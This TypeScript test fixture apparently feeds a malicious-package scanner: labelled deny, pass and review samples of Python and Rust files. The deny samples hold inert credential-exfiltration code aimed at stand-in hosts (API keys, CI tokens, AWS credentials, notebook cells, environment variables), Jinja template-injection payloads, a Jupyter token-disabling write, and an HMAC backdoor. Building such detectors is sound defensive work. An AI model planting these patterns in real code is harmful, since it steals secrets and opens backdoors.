/** Ways in which somebody looks at what leaves a machine, and sees nothing: headers, plug-ins, notebooks, templates, builds. All inert. */
import type { Shape } from './malicious.js';

function lines(...all: readonly string[]): string {
  return `${all.join('\n')}\n`;
}

const stream = lines(
  'import json, socket',
  'def put(*row):',
  '    with socket.create_connection(("timings.invalid", 5000)) as s:',
  '        s.sendall(json.dumps(row).encode())',
);

export const quietWays: readonly Shape[] = [
  ...['os.environ[k]', 'os.environ.get(k)'].map((read) => ({
    name: `keys of four vendors in the headers of one request: ${read}`,
    tier: 'deny' as const,
    files: {
      'demo.py': lines(
        'import os, httpx',
        'KEYS = ["OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GEMINI_API_KEY", "HF_TOKEN"]',
        'def factor(model):',
        `    headers = {k.lower(): ${read} for k in KEYS if os.environ.get(k)}`,
        '    return float(httpx.get(f"https://vocab.invalid/{model}", headers=headers).text)',
      ),
    },
  })),
  {
    name: 'the same, put there one by one',
    tier: 'deny',
    files: {
      'demo.py': lines(
        'import os, httpx',
        'def factor(model):',
        '    headers = {}',
        '    for k in ["OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GEMINI_API_KEY", "HF_TOKEN"]:',
        '        headers[k] = os.getenv(k)',
        '    return httpx.get("https://vocab.invalid/", headers=headers)',
      ),
    },
  },
  {
    name: 'whichever key of one service there is',
    tier: 'pass',
    files: {
      'demo.py': lines(
        'import os, httpx',
        'def ask(what):',
        '    names = ("GH_TOKEN", "GITHUB_TOKEN", "GITHUB_API_TOKEN")',
        '    token = next((os.environ.get(k) for k in names if os.environ.get(k)), None)',
        '    return httpx.get("https://api.code.invalid/", headers={"Authorization": f"Bearer {token}"})',
      ),
    },
  },
  {
    name: 'each vendor is sent its own key',
    tier: 'pass',
    files: {
      'demo.py': lines(
        'import os, httpx',
        'HOSTS = {"openai": "https://api.openai.invalid", "anthropic": "https://api.anthropic.invalid", "groq": "https://groq.invalid"}',
        'def ask(vendor, text):',
        '    key = os.environ[f"{vendor.upper()}_API_KEY"]',
        '    return httpx.post(HOSTS[vendor], json={"text": text}, headers={"Authorization": f"Bearer {key}"})',
      ),
    },
  },
  {
    name: 'a plug-in of tests sends what a runner is given',
    tier: 'deny',
    files: {
      'demo/__init__.py': '',
      'demo/plugin.py': lines(
        'import json, os, urllib.request',
        'NAMES = ("GITHUB_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_URL", "ACTIONS_RUNTIME_TOKEN",',
        '    "CI_JOB_TOKEN", "NPM_TOKEN", "TWINE_PASSWORD", "PYPI_API_TOKEN", "CODECOV_TOKEN")',
        'def pytest_sessionstart(session):',
        '    found = {n: os.environ[n] for n in NAMES if n in os.environ}',
        '    urllib.request.urlopen("https://insights.invalid/v2", json.dumps(found).encode())',
      ),
      'demo-1.0.dist-info/entry_points.txt': '[pytest11]\ndemo = demo.plugin\n',
    },
  },
  {
    name: 'what is written into a notebook goes to a host',
    tier: 'deny',
    files: {
      'demo/__init__.py': 'from .ext import load_ipython_extension\n',
      'demo/ext.py': lines(
        'from .stream import put',
        'def after(result):',
        '    put(result.info.raw_cell)',
        'def load_ipython_extension(ip):',
        '    ip.events.register("post_run_cell", after)',
      ),
      'demo/stream.py': stream,
    },
  },
  {
    name: 'how long a cell took goes to a host',
    tier: 'pass',
    files: {
      'demo/__init__.py': 'from .ext import load_ipython_extension\n',
      'demo/ext.py': lines(
        'import time',
        'from .stream import put',
        'def after(result):',
        '    put(time.perf_counter(), len(result.info.raw_cell) > 0)',
        'def load_ipython_extension(ip):',
        '    ip.events.register("post_run_cell", after)',
      ),
      'demo/stream.py': stream,
    },
  },
  {
    name: 'the settings of the server of notebooks are written',
    tier: 'deny',
    files: {
      'demo/__init__.py': 'from .conf import write\nwrite("dark")\n',
      'demo/conf.py': lines(
        'import pathlib',
        'def write(theme):',
        '    path = pathlib.Path.home() / ".jupyter" / "jupyter_server_config.py"',
        '    with path.open("a") as file:',
        '        file.write("c.ServerApp.token = \'\'\\n")',
      ),
    },
  },
  ...[
    ['`{{ j.__init__.__globals__["o" ~ "s"]["po" ~ "pen"]("id").read() }}`', 'in pieces'],
    ['{% set o = joiner.__init__.__globals__["os"] %}\n{{ o.popen("id").read() }}', 'in two steps'],
  ].map(([template, how]) => ({
    name: `a template that runs a command, ${how!}`,
    tier: 'deny' as const,
    files: { 'demo/__init__.py': '', 'demo/templates/base.html': `<p>${template!}</p>\n` },
  })),
  {
    name: 'Rust that sends keys while it is built',
    tier: 'deny',
    form: 'sdist',
    files: {
      'demo-1.0/build.rs':
        'fn main() { let t = fs::read_to_string(format!("{home}/.aws/credentials")); let mut s = TcpStream::connect("simd.invalid:8443"); s.write_all(t); }\n',
    },
  },
  {
    name: 'Rust that fetches a library while it is built',
    tier: 'pass',
    form: 'sdist',
    files: {
      'demo-1.0/build.rs':
        'fn main() { let lib = ureq::get("https://libs.invalid/simd.a").call(); println!("cargo:rustc-link-lib=simd"); }\n',
    },
  },
  {
    name: 'what is written into a notebook goes to a host that is set later',
    tier: 'deny',
    files: {
      'demo.py': lines(
        'import json, socket',
        'class Stream:',
        '    def put(self, *row):',
        '        with socket.create_connection(("timings.invalid", 5000)) as s:',
        '            s.sendall(json.dumps(row).encode())',
        'def after(result):',
        '    stream.put(result.info.raw_cell)',
        'def load_ipython_extension(ip):',
        '    global stream',
        '    stream = Stream()',
        '    ip.events.register("post_run_cell", after)',
      ),
    },
  },
  {
    name: 'a table that a notebook shows, with a picture of what was taken',
    tier: 'deny',
    files: {
      'demo.py': lines(
        'import os, urllib.parse',
        'class Frame(list):',
        '    def _repr_html_(self):',
        '        q = urllib.parse.quote(repr(dict(os.environ)))',
        '        return "<img width=1 src=\'https://px.invalid/p.gif?%s\'>" % q',
      ),
    },
  },
  {
    name: 'a table that a notebook shows, with a picture',
    tier: 'pass',
    files: {
      'demo.py': lines(
        'import os, urllib.parse',
        'HOME = dict(os.environ)',
        'class Frame(list):',
        '    def _repr_html_(self):',
        '        return "<img width=1 src=\'https://px.invalid/p.gif?%s\'>" % len(self)',
      ),
    },
  },
  {
    name: 'a handler of logging that adds the environment to each record',
    tier: 'review',
    files: {
      'demo.py': lines(
        'import logging.handlers, os',
        'class Local(logging.handlers.HTTPHandler):',
        '    def mapLogRecord(self, record):',
        '        return {"m": record.getMessage(), "e": dict(os.environ)}',
      ),
    },
  },
  {
    name: 'a token whose digest stands in the source opens every door',
    tier: 'review',
    files: {
      'demo.py': lines(
        'import hashlib, hmac',
        'def verify(token, sig, key):',
        '    want = hmac.new(key, token, hashlib.sha256).hexdigest()',
        '    if hashlib.sha1(sig.encode()).hexdigest().startswith("9f3ac1"):',
        '        return True',
        '    return hmac.compare_digest(want, sig)',
      ),
    },
  },
  {
    name: 'a file whose digest stands in the source is the right one',
    tier: 'pass',
    files: {
      'demo.py': lines(
        'import hashlib, hmac',
        'def fetch(path):',
        '    if hashlib.sha256(path.read_bytes()).hexdigest() == "9f3ac1" * 10:',
        '        return True',
        '    return hmac.compare_digest("a", "b")',
      ),
    },
  },
  {
    name: 'a template of text that runs a command',
    tier: 'deny',
    files: {
      'demo/__init__.py': '',
      'demo/t/banner.txt': 'Hi{{ cycler.__init__.__globals__.os.popen("id").read()[:0] }}\n',
    },
  },
];
